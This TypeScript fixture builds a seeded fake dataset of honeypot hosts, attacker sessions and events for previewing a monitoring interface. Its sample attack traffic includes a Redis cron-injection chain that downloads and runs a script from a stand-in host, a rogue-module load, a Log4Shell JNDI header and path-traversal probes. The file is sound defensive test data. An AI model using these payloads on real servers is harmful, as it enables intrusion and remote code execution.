// A small made-up world for looking at pages while no platform runs: attackers, sessions and events, seeded.
import { attackerId, type EventKindName } from '@decnet/kernel'
import type { Attacker, Credential, Decky, EventRow, Finding, Operation, Session } from '../src/lib/api.ts'

/** A small seeded generator (mulberry32). */
export function seeded(seed: number): () => number {
  let state = seed
  return () => {
    state = (state + 0x6d2b79f5) | 0
    let value = Math.imul(state ^ (state >>> 15), 1 | state)
    value = (value + Math.imul(value ^ (value >>> 7), 61 | value)) ^ value
    return ((value ^ (value >>> 14)) >>> 0) / 4294967296
  }
}

const random = seeded(7)
const pick = <Item>(items: readonly Item[]): Item => items[Math.floor(random() * items.length)] as Item
const hex = (length: number) => Array.from({ length }, () => Math.floor(random() * 16).toString(16)).join('')
export const uuid = () => `${hex(8)}-${hex(4)}-7${hex(3)}-8${hex(3)}-${hex(12)}`
export const iso = (ms: number) => new Date(ms).toISOString()

type Service = Decky['services'][number]

function service(name: string, state: Service['state'], error: string | null = null): Service {
  const port = name === 'http' ? 80 : 6379
  const bound = state === 'open' ? port : null
  return { name, state, error, listens: [{ transport: 'tcp', port, bound_port: bound }], port: bound }
}

function decky(name: string, address: string, more: Partial<Decky>): Decky {
  return {
    id: uuid(),
    name,
    address,
    runtime: 'embedded',
    archetype: 'web-server',
    topology_id: null,
    persona: { os: 'debian-12', hostname: `srv-${name}` },
    state: 'running',
    detail: '',
    revision: 1,
    running_revision: 1,
    services: [service('http', 'open')],
    created: iso(Date.now() - 6 * 86_400_000),
    updated: iso(Date.now() - 5_000_000),
    ...more,
  }
}

const half: Partial<Decky> = {
  archetype: 'linux-server',
  state: 'degraded',
  detail: 'redis does not listen',
  revision: 4,
  running_revision: 3,
  services: [service('http', 'open'), service('redis', 'failed', 'address already in use')],
}
const cache: Partial<Decky> = { archetype: 'cache-server', services: [service('redis', 'open')] }

export const world = {
  deckies: [
    decky('web-01', '127.66.12.2', {}),
    decky('linux-01', '127.66.12.3', half),
    decky('cache-01', '127.66.12.4', cache),
    decky('cache-02', '127.66.12.5', { ...cache, state: 'pending', running_revision: null, services: [service('redis', 'pending')] }),
    decky('web-02', '127.66.12.6', {
      state: 'failed',
      detail: 'the sensor does not start',
      services: [service('http', 'failed', 'sensor ended with code 1')],
    }),
  ],
  attackers: [] as Attacker[],
  sessions: [] as Session[],
  events: [] as EventRow[],
  credentials: [] as Credential[],
  findings: [] as Finding[],
  operations: [] as Operation[],
}

interface Doing {
  readonly session: Session
  at: number
}

function add(doing: Doing, kind: EventKindName, facts: EventRow['facts']): EventRow {
  const { session } = doing
  doing.at += Math.floor(80 + random() * 2_500)
  const event: EventRow = {
    seq: world.events.length + 1,
    id: uuid(),
    time: iso(doing.at),
    received: iso(doing.at + 40),
    kind,
    origin: 'sensor',
    source: 'live',
    host: 'here',
    decky_id: session.decky_id,
    decky: session.decky,
    topology_id: null,
    service: session.service,
    session: session.id,
    attacker_uuid: session.attacker_uuid,
    peer_ip: session.peer_ip,
    peer_port: session.peer_port,
    local_port: session.local_port,
    clamped: false,
    facts,
  }
  world.events.push(event)
  session.event_count++
  return event
}

const paths = [
  '/',
  '/admin',
  '/login',
  '/.env',
  '/wp-login.php',
  '/cgi-bin/luci/;stok=/locale?form=country',
  '/../../etc/passwd',
  '/?x=\u202egnp.sh',
  '/solr/admin/info/system',
]
const redisChain = [
  'INFO server',
  'CONFIG SET dir /var/spool/cron',
  'CONFIG SET dbfilename root',
  'SET x "\\n\\n*/1 * * * * curl -fsSL http://198.51.100.44/b.sh | sh\\n\\n"',
  'SAVE',
  'SLAVEOF 203.0.113.9 21000',
  'MODULE LOAD /tmp/exp.so',
  'EVAL "return 1" 0',
]

function talkHttp(doing: Doing): void {
  add(doing, 'client.identified', { what: 'user_agent', value: pick(['curl/7.88.1', 'Mozilla/5.0 zgrab/0.x', 'python-requests/2.31.0']) })
  for (let index = 0; index < 1 + random() * 7; index++) {
    const target = pick(paths)
    add(doing, 'request.made', {
      method: 'GET',
      target,
      version: '1.1',
      host: '127.66.12.2',
      headers: [
        ['Host', '127.66.12.2'],
        ['X-Forwarded-For', `$${'{jndi:ldap://203.0.113.7:1389/a}'}`],
      ],
      status: target === '/' ? 200 : 404,
      body_size: 0,
    })
  }
  if (random() < 0.4) tryCredentials(doing, 'form')
}

function talkRedis(doing: Doing): void {
  if (random() < 0.3) tryCredentials(doing, 'password')
  for (const command of redisChain.slice(0, 1 + Math.floor(random() * redisChain.length))) {
    const failed = random() < 0.2
    add(doing, 'command.ran', {
      language: 'redis',
      command,
      outcome: failed ? 'error' : 'ok',
      ...(failed ? { error: 'ERR unknown command' } : {}),
    })
    doing.session.command_count++
  }
  if (random() < 0.4) {
    add(doing, 'file.captured', {
      sha256: hex(64),
      size: Math.floor(200 + random() * 9_000),
      name: '/var/spool/cron/root',
      mime: 'application/x-redis-dump',
      how: 'written',
      complete: true,
    })
    doing.session.file_count++
  }
}

function tryCredentials(doing: Doing, method: string): void {
  const { session } = doing
  for (let index = 0; index < 1 + random() * 5; index++) {
    const principal = pick(['admin', 'root', 'test', 'postgres', 'default'])
    const outcome = random() < 0.12 ? 'accepted' : 'rejected'
    const event = add(doing, 'credential.tried', { method, principal, secret: '••••••••', secret_b64: null, outcome })
    session.credential_count++
    world.credentials.unshift({
      uuid: uuid(),
      attacker_uuid: session.attacker_uuid,
      decky_id: session.decky_id,
      decky: session.decky,
      service: session.service ?? '',
      method,
      principal,
      secret: '••••••••',
      secret_b64: null,
      outcome,
      challenge: null,
      salt: null,
      tries: 1,
      first_seen: event.time,
      last_seen: event.time,
      last_session: session.id,
    })
  }
}

function attackerAt(ip: string, time: string, where: Decky): Attacker {
  const known = world.attackers.find((one) => one.ip === ip)
  if (known) return known
  const id = attackerId(ip)
  const made: Attacker = {
    uuid: id,
    ip,
    identity_uuid: uuid(),
    first_seen: time,
    last_seen: time,
    event_count: 0,
    session_count: 0,
    decky_count: 0,
    rotation_count: 0,
    last_rotation_at: null,
    tempo: pick(['human', 'automated', 'automated', 'unknown']),
    tempo_reason: 'median gap of 84 ms between requests over 41 requests',
    depth: 'connected',
    services: [],
    deckies: [],
  }
  world.attackers.push(made)
  announce('attacker.observed', time, { attacker_uuid: id, ip, decky: where.name, service: where.services[0]?.name ?? null })
  return made
}

function announce(topic: Finding['topic'], time: string, payload: Finding['payload']): void {
  world.findings.unshift({
    seq: world.findings.length + 1,
    id: uuid(),
    analyzer: 'profile',
    topic,
    title: topic,
    subject: String(payload.attacker_uuid),
    time,
    payload,
  })
}

/** One session of some attacker at that time; returns its events. */
export function happen(at: number, left = true): EventRow[] {
  const where = pick(world.deckies.slice(0, 3))
  const ip = pick(['127.77.0.9', '127.77.3.1', '127.77.8.20', '198.51.100.23', '203.0.113.77', '192.0.2.14', '2001:db8::42'])
  const spoken = pick(where.services)
  const attacker = attackerAt(ip, iso(at), where)
  const session: Session = {
    id: uuid(),
    decky_id: where.id,
    decky: where.name,
    service: spoken.name,
    attacker_uuid: attacker.uuid,
    peer_ip: ip,
    peer_port: 30_000 + Math.floor(random() * 20_000),
    local_port: spoken.listens[0]?.port ?? 0,
    transport: 'tcp',
    started: iso(at),
    ended: null,
    close_reason: null,
    bytes_in: Math.floor(random() * 3_000),
    bytes_out: Math.floor(random() * 20_000),
    event_count: 0,
    command_count: 0,
    credential_count: 0,
    file_count: 0,
  }
  const before = world.events.length
  const doing = { session, at }
  add(doing, 'connection.opened', { transport: 'tcp' })
  if (spoken.name === 'http') talkHttp(doing)
  else talkRedis(doing)
  if (left) {
    const closed = add(doing, 'connection.closed', {
      reason: 'peer',
      duration_ms: doing.at - at,
      bytes_in: session.bytes_in,
      bytes_out: session.bytes_out,
    })
    Object.assign(session, { ended: closed.time, close_reason: 'peer' })
  }
  world.sessions.unshift(session)
  const fresh = world.events.slice(before)
  settle(attacker, session, fresh)
  return fresh
}

function settle(attacker: Attacker, session: Session, fresh: readonly EventRow[]): void {
  const accepted = fresh.find((event) => event.facts.outcome === 'accepted')
  attacker.last_seen = fresh.at(-1)?.time ?? attacker.last_seen
  attacker.event_count += fresh.length
  attacker.session_count++
  if (!attacker.deckies.includes(session.decky)) attacker.deckies.push(session.decky)
  if (session.service && !attacker.services.includes(session.service)) attacker.services.push(session.service)
  attacker.decky_count = attacker.deckies.length
  const order = ['connected', 'spoke', 'tried_credentials', 'got_in', 'acted', 'left_files'] as const
  const reached = session.file_count ? 5 : session.command_count ? 4 : accepted ? 3 : session.credential_count ? 2 : 1
  attacker.depth = order[Math.max(reached, order.indexOf(attacker.depth ?? 'connected'))] ?? 'connected'
  if (accepted) {
    announce('credential.captured', accepted.time, {
      attacker_uuid: attacker.uuid,
      ip: attacker.ip,
      decky: session.decky,
      service: session.service,
      principal: accepted.facts.principal,
    })
  }
}
